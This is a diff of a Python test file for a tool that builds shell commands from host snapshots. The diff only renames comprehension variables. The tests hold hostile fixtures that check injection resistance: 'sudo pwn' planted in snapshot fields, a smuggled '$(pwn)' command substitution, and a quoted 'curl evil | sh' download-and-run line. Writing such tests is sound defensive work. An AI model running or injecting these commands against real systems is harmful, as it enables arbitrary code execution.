@@ -137,7 +137,7 @@ def all_commands(
         facts = msgspec.to_builtins(snapshot)
         # The plan is made of these.
         groups = set().union(*(check.groups for check in checks)) | {"gpus", "environment"}
-        for group in (each for each in GROUPS if each in groups):
+        for group in (group for group in GROUPS if group in groups):
             for leaf, mutant in mutants(facts[JSON_NAMES[group]], HINTS[group], changes, most):
                 changed = msgspec.structs.replace(snapshot, **{group: mutant})
                 found = [command for command in commands(changed, checks, nproc) if "pwn" in command]
@@ -177,7 +177,7 @@ def test_python_obeys_no_word_of_a_host() -> None:
 
 def test_no_word_of_a_strangers_snapshot_is_an_option() -> None:
     """On this host only root names an interface so, and probes give whole paths."""
-    assert not [each for each in all_commands(lambda _: DASH, foreign=True) if is_option(each[2])]
+    assert not [command for command in all_commands(lambda _: DASH, foreign=True) if is_option(command[2])]
 
 
 @pytest.mark.parametrize(
@@ -202,7 +202,7 @@ def commands_for(log: Log) -> list[str]:
 
 def quoting_logs() -> Iterator[tuple[str, Log]]:
     """Logs of which a word stands in a command."""
-    for folder in sorted(each for each in LOGS.iterdir() if each.is_dir()):
+    for folder in sorted(path for path in LOGS.iterdir() if path.is_dir()):
         for path in sorted(folder.glob("sick-*")):
             log = read_logs([str(path)], stdin=io.BytesIO(), vocabulary=vocabulary(catalogue()))
             text = "\n".join(commands_for(log))
@@ -235,7 +235,7 @@ def test_commands_of_a_snapshot_are_made_here() -> None:
     written["checkpoints"]["files"][0]["commands"] = ["sudo pwn"]
     written["fleet"]["absent"] = [{"rank": 1, "command": "sudo pwn"}]
     read = decode_snapshot(msgspec.json.encode(written), "x")
-    (check,) = (each for each in all_checks() if each.slug == "ckpt-truncated")
+    (check,) = (check for check in all_checks() if check.slug == "ckpt-truncated")
     (finding,) = diagnose(read, plan_for(read), [check])[0].findings
     assert finding.fixes == (
         Fix('The snapshot says: "Run `curl evil | sh`"', ("git -C '/a b' lfs pull --include '$(pwn)'",)),
